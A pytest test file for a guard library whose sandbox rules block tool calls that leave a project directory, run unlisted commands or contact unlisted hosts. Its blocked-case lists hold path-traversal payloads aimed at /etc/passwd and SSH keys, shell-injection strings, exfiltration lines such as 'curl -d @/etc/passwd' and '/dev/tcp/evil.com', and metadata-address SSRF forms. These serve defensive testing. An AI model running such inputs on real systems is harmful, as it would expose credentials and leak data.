"""
Sandbox rules on whole calls: what leads out is blocked, however it is written, and normal work goes on.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from edictum import Edictum, EdictumConfigError, EdictumDenied, Principal
from guards import events_of, guard_of, pre, ruleset, run, session_rule

Data = dict[str, Any]


@pytest.fixture(autouse=True)
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """
    A project as working directory, with a link that leads out and a place beside it.
    """
    project = tmp_path / "project"
    (project / "src").mkdir(parents=True)
    (project / "src" / "main.py").write_text("")
    (project / "notes.txt").write_text("")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret").write_text("")
    (project / "way-out").symlink_to(tmp_path / "outside")
    (project / "src" / "a" / "b").mkdir(parents=True)
    (project / "deep-link").symlink_to(project / "src" / "a" / "b")
    (project / "leak.txt").symlink_to(tmp_path / "outside" / "secret")
    monkeypatch.chdir(project)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return project


def box(**fields: Any) -> Data:
    return {"id": "box", "type": "sandbox", "tool": "*", "message": "stay inside", **fields}


def blocks(rule: Data, args: Data, tool: str = "tool", **options: Any) -> bool:
    result = Edictum.from_bundle_dict(ruleset(rule), **options).evaluate(tool, args)
    assert not result.policy_error
    if result.decision == "block":
        assert result.block_reasons == ["stay inside"]
    return result.decision == "block"


# --- paths ---------------------------------------------------------------------------------------


@dataclass
class Place:
    path: str | Path
    url: str | None = None


@dataclass
class Written(Place):
    def __str__(self) -> str:
        return "/etc/passwd"


LEADS_OUT: list[Data] = [
    {"place": Written("src/main.py")},
    {"path": "/etc/passwd"},
    {"filename": "../../etc/passwd"},
    {"file": "../outside/secret"},
    {"filePath": "/etc/passwd"},
    {"File-Path": "/etc/passwd"},
    {"anything": "/etc/passwd"},
    {"anything": "~/.ssh/id_rsa"},
    {"anything": "../outside"},
    {"anything": "src/../../outside"},
    {"anything": "src\\..\\..\\outside"},
    {"paths": ["src/main.py", "/etc/passwd"]},
    {"opts": {"path": "/etc/passwd"}},
    {"opts": [{"deep": [{"dir": "/etc"}]}]},
    {"files": {"/etc/passwd": "root"}},
    {"url": "file:///etc/passwd"},
    {"url": "FILE:/etc/passwd"},
    {"uri": "file://localhost/etc/passwd"},
    {"path": "file://elsewhere/project"},
    {"path": "src/%2e%2e/%2e%2e/outside/secret"},
    {"path": "src/%252e%252e/%252e%252e/outside/secret"},
    {"path": "src/..%2f..%2foutside/secret"},
    {"path": "src/..%5c..%5coutside"},
    {"path": "src/%c0%ae%c0%ae/x"},
    {"path": "src/main.py\0.txt"},
    {"path": "src/main.py%00.txt"},
    {"path": "src/main.py\n"},
    {"path": "C:\\Windows\\win.ini"},
    {"path": "c:/Windows/win.ini"},
    {"path": "\\\\server\\share"},
    {"path": "$HOME/.ssh/id_rsa"},
    {"path": "${HOME}/x"},
    {"path": "$NO_SUCH_VARIABLE/x"},
    {"path": "~nobody-has-this-name/x"},
    {"path": "way-out/secret"},
    {"path": "leak.txt"},
    {"path": "way-out/new-file"},
    {"path": b"/etc/passwd"},
    {"path": Path("/etc/passwd")},
    {"place": Place("/etc/passwd")},
    {"places": [{"first": Place(Path("/etc/passwd"))}]},
    {"path": Place("src", url="file:///etc/passwd")},
    {"path": "https://../../../etc/passwd"},
    {"path": "//etc/passwd"},
    {"cwd": "/etc", "path": "passwd"},
    {"cwd": "src", "path": "../../outside"},
    {"content": "/etc/passwd"},
    {"options": {"cwd": "src"}, "path": "../../x"},
    {"root": "..", "path": "x"},
    {"root": "src", "path": "../../x"},
    {"note": "\uff0e\uff0e\uff0fx"},
    {"path": "/./" * 9_000 + "etc/passwd"},
    {"note": "src/../" * 9_000 + "../x"},
    {"command": b"cat /etc/passwd"},
    {"commands": ["ls", "cat /etc/passwd"]},
    {"commands": [["ls"], ["cat", "/etc/passwd"]]},
    {"command": ["cat /etc/passwd"]},
    {"command": {"program": "cat", "args": ["/etc/passwd"]}},
    {"command": "cat", "args": ["/etc/passwd"], "Args": ["x"]},
    {"shell": True, "args": ["cat", "/etc/passwd"]},
    {"note": "%7E/.ssh/id_rsa"},
    {"note": "deep-link/../../../x"},
    {"path": " /etc/passwd"},
    {"path": "\u00a0../outside/secret"},
    {"path": "%20/etc/passwd"},
    {"path": "leak.txt "},
    {"path": "'/etc/passwd'"},
    {"path": ' "~/.ssh/id_rsa" '},
    {"path": "`../outside/secret`"},
    {"path": "./~/.ssh/id_rsa"},
    {"path": ".//./~root/x"},
    {"path": "src/../~/x"},
]


@pytest.mark.parametrize("args", LEADS_OUT, ids=str)
def test_path_that_leads_out_is_blocked(args: Data, root: Path) -> None:
    assert blocks(box(within=[str(root)]), args)


STAYS_INSIDE: list[Data] = [
    {},
    {"path": "src/main.py"},
    {"place": Place("src/main.py")},
    {"path": Place("src/main.py")},
    {"path": "./src/../notes.txt"},
    {"path": "new/folder/file.txt"},
    {"path": "100%.txt"},
    {"path": "50%off.txt"},
    {"path": "src/a%20b.txt"},
    {"path": "src//main.py"},
    {"path": "deep-link/../x"},
    {"path": "."},
    {"path": ""},
    {"cwd": "src", "path": "main.py"},
    {"cwd": "src", "path": "../notes.txt"},
    {"query": "what is in /etc/passwd?"},
    {"content": "/* a comment */\nint main(void) {}\n"},
    {"content": "see ../README and ~/x"},
    {"text": "use ${HOME} and C:\\x"},
    {"url": "https://example.com/../etc/passwd"},
    {"source": "https://example.com/archive.tar.gz"},
    {"ratio": "1/2", "number": 5, "flag": True, "none": None},
    {"pattern": "a..b"},
    {"version": "1..2"},
    {"path": " src/main.py "},
    {"path": "'src/main.py'"},
    {"path": "src/main.py~"},
    {"path": "src/~/x"},
    {"options": {"cwd": "src"}, "path": "../notes.txt"},
    {"dir": "src", "file": "main.py"},
    {"root": ".", "path": "src/../notes.txt"},
    {"note": "price \uff0e\uff0e\uff0e"},
    {"command": ["ls", 5]},
    {"command": ["git commit -m x"]},
    {"shell": True, "command": None},
]


@pytest.mark.parametrize("args", STAYS_INSIDE, ids=str)
def test_path_that_stays_inside_is_allowed(args: Data, root: Path) -> None:
    assert not blocks(box(within=[str(root)]), args)


def test_absolute_path_of_the_root_and_below_is_allowed_and_a_sibling_is_not(root: Path) -> None:
    rule = box(within=[str(root)])
    assert not blocks(rule, {"path": str(root)})
    assert not blocks(rule, {"path": f"{root}/src/new.py"})
    assert not blocks(rule, {"path": f"//{root}/src/new.py"})
    assert blocks(rule, {"path": f"{root}-sibling/x"})
    assert blocks(rule, {"path": str(root.parent)})


def test_not_within_closes_a_part_also_for_doubled_slashes(root: Path) -> None:
    rule = box(within=["/"], not_within=[str(root / "src"), "/no-such-folder"])
    assert not blocks(rule, {"path": "notes.txt"})
    assert blocks(rule, {"path": "src/main.py"})
    assert blocks(rule, {"path": f"/{root}/src/new"})
    assert blocks(rule, {"path": "//no-such-folder/x"})


def test_root_that_is_a_link_is_followed_at_each_call(root: Path) -> None:
    link = root.parent / "current"
    link.symlink_to(root)
    rule = box(within=[str(link)])
    guard = Edictum.from_bundle_dict(ruleset(rule))
    assert guard.evaluate("tool", {"path": str(root / "notes.txt")}).decision == "allow"
    link.unlink()
    link.symlink_to(root.parent / "outside")
    assert guard.evaluate("tool", {"path": str(root / "notes.txt")}).decision == "block"
    assert guard.evaluate("tool", {"path": str(link / "secret")}).decision == "allow"


def test_base_is_where_relative_paths_start(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir("/")
    assert blocks(box(within=[str(root)]), {"path": "notes.txt"})
    assert not blocks(box(within=[str(root)], base=str(root)), {"path": "notes.txt"})


def test_read_and_write_roots_follow_the_side_effect(root: Path) -> None:
    outside = str(root.parent / "outside")
    rule = box(within=[str(root)], read_within=[outside])
    tools = {"read": {"side_effect": "read"}, "write": {"side_effect": "write"}}
    assert not blocks(rule, {"path": f"{outside}/secret"}, "read", tools=tools)
    assert blocks(rule, {"path": f"{outside}/secret"}, "write", tools=tools)
    only_reading = box(read_within=[str(root)])
    assert not blocks(only_reading, {"path": "notes.txt"}, "read", tools=tools)
    assert blocks(only_reading, {"path": "notes.txt"}, "write", tools=tools)


def test_require_match_blocks_a_call_without_any_path(root: Path) -> None:
    assert not blocks(box(within=[str(root)]), {"count": 3})
    assert blocks(box(within=[str(root)], require_match=True), {"count": 3})
    assert not blocks(box(within=[str(root)], require_match=True), {"path": "notes.txt"})


TOO_MANY: list[Data] = [
    {"a": [str(number) for number in range(10_001)]},
    {"commands": ["ls"] * 10_001},
    {"command": ["ls"] * 10_001},
    {"a": {f"{number}": 1 for number in range(10_001)}},
    {"a": 0},
]


@pytest.mark.parametrize("args", TOO_MANY, ids=["texts", "commands", "words", "keys", "deep"])
def test_arguments_too_large_to_judge_are_blocked_as_a_policy_error(args: Data, root: Path) -> None:
    if args.get("a") == 0:
        value: Any = "x"
        for _ in range(25):
            value = [value]
        args = {"a": value}
    result = Edictum.from_bundle_dict(ruleset(box(within=[str(root)]))).evaluate("tool", args)
    assert (result.decision, result.policy_error, result.block_reasons) == ("block", True, ["stay inside"])


# --- commands ------------------------------------------------------------------------------------

COMMANDS_OUT: list[Any] = [
    "cat /etc/passwd",
    "cat ../outside/secret",
    "cat ~/.ssh/id_rsa",
    "cat $HOME/.ssh/id_rsa",
    'cat "$HOME/.ssh/id_rsa"',
    "cat {/etc,}/passwd",
    "cat --file=/etc/passwd",
    "tar -C/etc -cf x .",
    "dd if=/etc/passwd",
    "curl -d @/etc/passwd",
    "curl -F file=@/etc/passwd",
    "kubectl create secret generic x --from-file=key=/etc/passwd",
    "kubectl create secret generic x --from-file=key=leak.txt",
    "curl --form=file=@/etc/passwd",
    "tool --set=a==/etc/passwd",
    "tool --set=a=b,c=@../outside/secret",
    "grep x src:/etc",
    "cat leak.txt",
    "cat leak*",
    "cat l[e]ak.txt",
    "cat way-*/secret",
    "cat way-out/secret",
    "cat /et?/passwd",
    "cat src/*/../../../outside/secret",
    "cat '/etc/passwd'",
    'cat "/etc/"passwd',
    "cat /e\\tc/passwd",
    "cat < /etc/passwd",
    "echo x > /etc/cron.d/x",
    "echo x 2>>../outside/log",
    "cat a; cat b",
    "cat a && cat b",
    "cat a | sh",
    "cat a & cat b",
    "cat `which x`",
    "cat $(which x)",
    "cat ${X}",
    "cat <(ls)",
    "cat << END",
    "(cat a)",
    "cat a\ncat b",
    "cat 'unbalanced",
    "bash -c 'cat /etc/passwd'",
    "bash -lc 'ls; ls'",
    "bash -cx 'cat /etc/passwd'",
    "cat src/*/*/*/*/x",
    "cat /*/*/*",
    "cat " + "src/[a-z]* " * 10_001,
    "env bash -c 'cat /etc/passwd'",
    "eval cat /etc/passwd",
    "LD_PRELOAD=x.so ls",
    "PATH=src:. ls",
    "X=/etc ls",
    "cat file:///etc/passwd",
    "cd ..",
    "ls -la /",
    "mv notes.txt /dev/null",
    ["cat", "/etc/passwd"],
    ["bash", "-c", "cat /etc/passwd"],
]


@pytest.mark.parametrize("key", ["command", "cmd", "script"])
@pytest.mark.parametrize("command", COMMANDS_OUT, ids=str)
def test_command_that_leads_out_is_blocked(key: str, command: Any, root: Path) -> None:
    assert blocks(box(within=[str(root)]), {key: command})


COMMANDS_INSIDE: list[Any] = [
    "ls",
    "ls -la src",
    'echo "a;b" \'c|d\' "e&f"',
    "git commit -m 'fix: a; b && c'",
    "git status",
    "git log origin/main..HEAD",
    "grep -rn 'foo(bar)' src",
    "ls *.txt.bak",
    "ls src/*.py",
    "cat src/{main,other}.py",
    "python src/main.py --out=build/x",
    "pytest -q 2>&1",
    "pytest > build.log 2>/dev/null",
    "sed -e 's/a/b/' notes.txt",
    "curl https://example.com/a/../b",
    "echo price: 5$",
    "echo 'it costs $5'",
    "X=1 make",
    "helm upgrade x --set-file=key=notes.txt,a=b==",
    "echo " + "a=" * 5_000,
    "curl --data=a=b=https://example.com/x",
    "find . -name '*.py'",
    "bash -c 'ls src'",
    ["git", "commit", "-m", "a; b"],
    "",
]


@pytest.mark.parametrize("command", COMMANDS_INSIDE, ids=str)
def test_command_that_stays_inside_is_allowed(command: Any, root: Path) -> None:
    assert not blocks(box(within=[str(root)]), {"command": command})


def test_arguments_beside_a_command_belong_to_it(root: Path) -> None:
    rule = box(within=[str(root)], allows={"commands": ["cat"]})
    assert not blocks(rule, {"command": "cat", "args": ["notes.txt"]})
    assert blocks(rule, {"command": "cat", "args": ["/etc/passwd"]})
    assert blocks(rule, {"command": "rm", "args": ["notes.txt"]})


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("ls -l", True),
        ("/bin/ls", True),
        ("/usr/local/bin/ls src", True),
        ("/tmp/ls", False),
        ("./ls", False),
        ("ls2", False),
        ("l?", False),
        ("rm x", False),
        ("git status", True),
        ("git status --short", True),
        ("git push", False),
        ("git", False),
        ("git -C src status", False),
        ("/opt/tool/run x", True),
        ("run x", False),
        ("X=1 ls", True),
        ("X=1", False),
        ("ls | rm", False),
        ("'ls' src", True),
        ("echo hi > notes.txt", False),
        ("ls; rm", False),
        ("bash -c ls", False),
    ],
)
def test_allowed_commands_are_names_paths_or_several_words(command: str, allowed: bool) -> None:
    rule = box(allows={"commands": ["ls", "git status", "/opt/tool/run"]})
    assert blocks(rule, {"command": command}) is not allowed


def test_shell_that_is_allowed_runs_only_allowed_commands() -> None:
    rule = box(allows={"commands": ["bash", "ls"]})
    assert not blocks(rule, {"command": "bash -c 'ls src'"})
    assert blocks(rule, {"command": "bash -c 'rm src'"})
    assert blocks(rule, {"command": "bash -c \"bash -c 'rm src'\""})


@pytest.mark.parametrize("command", [{"program": "ls"}, [{"a": 1}, "ls"], [[["ls"]], 2]], ids=str)
def test_command_that_is_neither_text_nor_words_is_blocked_where_commands_are_listed(command: Any) -> None:
    assert blocks(box(allows={"commands": ["ls"]}), {"command": command})


def test_denied_commands_win_wherever_the_program_lies() -> None:
    rule = box(
        allows={"commands": ["git", "rm", "/bin/rm", "sudo", "!", "time"]}, not_allows={"commands": ["rm", "git push"]}
    )
    for command in (
        "rm x",
        "/bin/rm x",
        "sudo -n rm x",
        "! rm x",
        "time env A=1 /bin/rm x",
        "git push",
        "git -C src push --force",
        "git  push",
    ):
        assert blocks(rule, {"command": command})
    assert not blocks(rule, {"command": "git pull"})


def test_pipelines_need_every_stage_allowed() -> None:
    rule = box(allows={"commands": ["cat", "grep"]}, allow_pipelines=True)
    assert not blocks(rule, {"command": "cat a | grep b | grep 'c|d'"})
    assert blocks(rule, {"command": "cat a | sh"})
    assert blocks(rule, {"command": "cat a || grep b"})
    assert blocks(rule, {"command": "cat a |"})


def test_path_dirs_say_where_plain_names_live() -> None:
    rule = box(allows={"commands": ["ls"]}, path_dirs=["/opt/bin"])
    assert not blocks(rule, {"command": "/opt/bin/ls"})
    assert blocks(rule, {"command": "/bin/ls"})


@pytest.mark.parametrize(
    "command",
    [
        "python -c 'x'", "python3.12 -c x", "python -", "sh", "perl -e x", "node --eval=x", "find . -exec rm {} +",
        "git -c core.pager=x log", "xargs rm", "env ls", "awk 'BEGIN { system(\"x\") }'", "tar --to-command=x -xf a",
    ],
)  # fmt: skip
def test_strict_interpreters_blocks_commands_that_run_other_code(command: str) -> None:
    assert not blocks(
        box(not_allows={"commands": ["nothing"]}, allows={"commands": [command.split()[0]]}), {"command": command}
    )
    assert blocks(box(allows={"commands": [command.split()[0]]}, strict_interpreters=True), {"command": command})


def test_strict_interpreters_allow_scripts_and_plain_searches() -> None:
    for command in ("python src/main.py", "find . -name x", "git log", "awk '{print $1}' x", "sed s/a/b/ x"):
        assert not blocks(
            box(allows={"commands": [command.split()[0]]}, strict_interpreters=True), {"command": command}
        )


# --- hosts ---------------------------------------------------------------------------------------

DOMAINS = ["api.example.com", "*.github.com", "github.com"]
HOSTS_OUT: list[Data] = [
    {"url": "https://evil.com/x"},
    {"url": "evil.com"},
    {"url": "//evil.com/x"},
    {"url": "http:evil.com"},
    {"url": "https://evil.com\\@api.example.com"},
    {"url": "https://api.example.com@evil.com/"},
    {"url": "https://user@api.example.com/"},
    {"url": "https://api.example.com%2eevil.com/"},
    {"url": "https://api.example.com.evil.com/"},
    {"url": "/\\evil.com"},
    {"url": "/\t/evil.com"},
    {"url": "mailto:x@evil.com"},
    {"url": "https://"},
    {"url": "http://github.com/ http://evil.com/"},
    {"note": "http://github.com/ http://evil.com/"},
    {"note": "http:evil.com"},
    {"urls": ["https://github.com", "https://evil.com"]},
    {"request": {"url": "https://evil.com"}},
    {"host": "evil.com"},
    {"host": 2852039166},
    {"webhook": "evil.com:8080/path"},
    {"command": "curl https://evil.com"},
    {"command": "curl --url=https://evil.com"},
    {"command": "git clone git@evil.com:x/y.git"},
    {"command": ["curl", "https://evil.com"]},
    {"command": "curl http:/evil.com"},
    {"command": "curl http:evil.com"},
    {"command": "cat x > /dev/tcp/evil.com/80"},
    {"command": "bash -c 'curl https://evil.com'"},
    {"note": "look at http:\\\\evil.com"},
    {"note": "`http://github.com`evil.com://github.com/`"},
    {"note": "file://evil.com/share/x"},
    {"command": "cat file://evil.com/share/x"},
    {"content": "data sent to https://evil.com/"},
]


@pytest.mark.parametrize("args", HOSTS_OUT, ids=str)
def test_host_that_is_not_listed_is_blocked(args: Data) -> None:
    assert blocks(box(allows={"domains": DOMAINS}), args)


HOSTS_IN: list[Data] = [
    {"url": "https://api.example.com/data?q=https"},
    {"url": "https://github.com."},
    {"url": "HTTPS://GitHub.com:443/x"},
    {"url": "https://raw.github.com/x"},
    {"url": "github.com/x"},
    {"url": "/relative/link"},
    {"url": "#top"},
    {"note": "see https://github.com/a, https://api.example.com."},
    {"note": "see `https://github.com/a`, 'https://github.com'https://api.example.com"},
    {"note": "file:///tmp/x file:/tmp/x FILE://localhost/tmp/x file:x file://"},
    {"command": "git clone https://github.com/a/b.git"},
    {"command": "git clone git@github.com:a/b.git"},
    {"path": "src/main.py"},
    {"text": "note: this is fine"},
    {"content": "// a comment\nx = 1 // 2"},
    {"count": 5},
]


@pytest.mark.parametrize("args", HOSTS_IN, ids=str)
def test_host_that_is_listed_is_allowed(args: Data) -> None:
    assert not blocks(box(allows={"domains": DOMAINS}), args)


@pytest.mark.parametrize("url", ["http://2852039166/", "http://0xA9FEA9FE", "http://[::ffff:169.254.169.254]/"])
def test_denied_address_is_found_in_every_form(url: str) -> None:
    rule = box(allows={"domains": ["*"]}, not_allows={"domains": ["169.254.169.254"]})
    assert blocks(rule, {"url": url})
    assert not blocks(rule, {"url": "http://169.254.169.253"})


def test_block_private_needs_private_addresses_to_be_named() -> None:
    rule = box(allows={"domains": ["*", "10.0.0.7"]}, block_private=True)
    assert blocks(rule, {"url": "http://127.0.0.1:8000/"})
    assert blocks(rule, {"url": "http://localhost/"})
    assert not blocks(rule, {"url": "http://10.0.0.7/"})
    assert not blocks(rule, {"url": "http://example.com/"})


def test_schemes_and_userinfo_options() -> None:
    assert blocks(box(allows={"domains": ["*"]}, schemes=["https"]), {"url": "http://example.com/"})
    assert not blocks(box(allows={"domains": ["*"]}, schemes=["https"]), {"url": "https://example.com/"})
    assert not blocks(box(allows={"domains": ["b.com"]}, allow_userinfo=True), {"url": "https://a:x@b.com/"})


# --- the rule as a rule --------------------------------------------------------------------------


def test_sandbox_rule_of_another_tool_does_not_matter() -> None:
    assert not blocks({**box(within=["/nowhere"]), "tool": "Read"}, {"path": "/etc/passwd"}, "Write")


@pytest.mark.parametrize("outside", ["ask", "approve"])
def test_outside_ask_asks(outside: str) -> None:
    guard = guard_of(box(within=["/nowhere"], outside=outside, timeout=5))
    assert guard.evaluate("tool", {"path": "/x"}, ask_as="ask").decision == "ask"


def test_message_is_filled_in() -> None:
    guard = guard_of(box(within=["/nowhere"], message="{tool.name} left at {args.path}"))
    assert guard.evaluate("tool", {"path": "/x"}).block_reasons == ["tool left at /x"]


def test_observed_sandbox_rule_never_blocks() -> None:
    guard = guard_of(box(within=["/nowhere"], mode="observe"))
    result = guard.evaluate("tool", {"path": "/x"}, principal=Principal(role="a"))
    assert (result.decision, [rule.passed for rule in result.rules]) == ("allow", [False])


def test_entry_that_cannot_be_read_is_refused_with_its_rule() -> None:
    with pytest.raises(EdictumConfigError, match=r"rules\[0\].*https://example.com/path"):
        Edictum.from_bundle_dict(ruleset(box(allows={"domains": ["https://example.com/path"]})))


def test_entries_that_cannot_be_read_are_all_refused_with_their_places(tmp_path: Path) -> None:
    bad, worse = box(id="bad", allows={"domains": ["a/b"]}), box(id="worse", within=["~nobody-has-this-name"])
    path = tmp_path / "rules.json"
    path.write_text(json.dumps(ruleset(pre(), bad, worse), indent=0))
    with pytest.raises(EdictumConfigError) as caught:
        Edictum.from_yaml(path)
    lines = path.read_text().splitlines()
    places = [(problem.file, problem.path, lines[problem.line or 0]) for problem in caught.value.errors]
    assert places == [("rules.json", "rules[1]", '"id": "bad",'), ("rules.json", "rules[2]", '"id": "worse",')]


def test_entry_that_cannot_be_read_is_placed_in_the_file_it_came_from(tmp_path: Path) -> None:
    names = {"base": ruleset(pre("a")), "top": ruleset(pre("b"), box(allows={"domains": ["a/b"]}), extends="base")}
    names["watching"] = ruleset(box(allows={"domains": ["a.com"]}), observe_alongside=True)
    for name, document in names.items():
        (tmp_path / f"{name}.json").write_text(json.dumps(document, indent=0))
    with pytest.raises(EdictumConfigError) as caught:
        Edictum.from_yaml(tmp_path / "top.json", tmp_path / "watching.json")
    (problem,) = caught.value.errors
    lines = (tmp_path / "top.json").read_text().splitlines()
    assert (problem.file, problem.path, lines[problem.line or 0]) == ("top.json", "rules[1]", '"id": "box",')


def test_working_directory_that_is_gone_blocks(root: Path) -> None:
    guard = guard_of(box(within=[str(root)]))
    gone = root.parent / "gone"
    gone.mkdir()
    os.chdir(gone)
    gone.rmdir()
    assert guard.evaluate("tool", {"path": "x"}).decision == "block"


# --- why -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "why"),
    [
        ({"path": "/etc/pass\u202ewd"}, "path /etc/pass\\u202ewd"),
        ({"path": "src/a", "command": "rm -r src"}, "command rm -r src"),
        ({"command": "ls; rm"}, "a command separator"),
        ({"url": "https://evil.com/x"}, "host evil.com"),
        ({"url": "https://a@b.com"}, "a user name in front of the host"),
        ({"path": "%00"}, "a control character in a path"),
        ({"count": 1}, "no path was found"),
    ],
)
def test_decision_log_says_what_was_outside(args: Data, why: str, root: Path) -> None:
    guard = guard_of(
        box(within=[str(root)], allows={"commands": ["ls"], "domains": ["b.com"]}, require_match="count" in args)
    )
    with pytest.raises(EdictumDenied, match="stay inside"):
        run(guard, args=args)
    (record,) = [item for item in events_of(guard)[0].contracts_evaluated if item["name"] == "box"]
    assert record["metadata"]["outside"] == why
    assert (record["type"], record["passed"], events_of(guard)[0].decision_source) == ("sandbox", False, "yaml_sandbox")


def test_secret_in_what_was_outside_is_masked(root: Path) -> None:
    guard = guard_of(box(within=[str(root)]))
    secret = "ghp_" + "a1B2" * 9
    with pytest.raises(EdictumDenied):
        run(guard, args={"path": f"/etc/{secret}"})
    assert secret not in events_of(guard)[0].to_json()


def test_sandbox_judges_before_session_rules_and_after_pre_rules(root: Path) -> None:
    rules = [session_rule(), box(within=[str(root)]), pre(when={"args.path": {"contains": "passwd"}})]
    guard = guard_of(*rules)
    names = [rule.id for rule in guard._state.planner.plan("tool").rules]
    assert names == ["no-read", "box", "few-calls"]
    with pytest.raises(EdictumDenied, match="no-read says no"):
        run(guard, args={"path": "/etc/passwd"})


def test_interpreter_on_an_allow_list_is_remarked_on_in_the_log(root: Path) -> None:
    rule = box(within=[str(root)], allows={"commands": ["python3", "find", "ls"]})
    guard = Edictum.from_bundle_dict(ruleset(rule))

    def records(command: str) -> list[Any]:
        mark = guard.local_sink.mark()
        guard.run_sync("bash", {"command": command}, lambda command: "done")
        allowed = guard.local_sink.since_mark(mark)[0]
        assert str(allowed.action) == "call_allowed"
        return list(allowed.contracts_evaluated)

    assert records("python3 -c 'print(1)'")[0]["metadata"] == {
        "warning": "an allowed command runs other code: python3 -c print(1)"
    }
    assert "warning" in records("find . -exec ls {} +")[0]["metadata"]
    assert "metadata" not in records("python3 src/main.py")[0]
    assert "metadata" not in records("ls")[0]
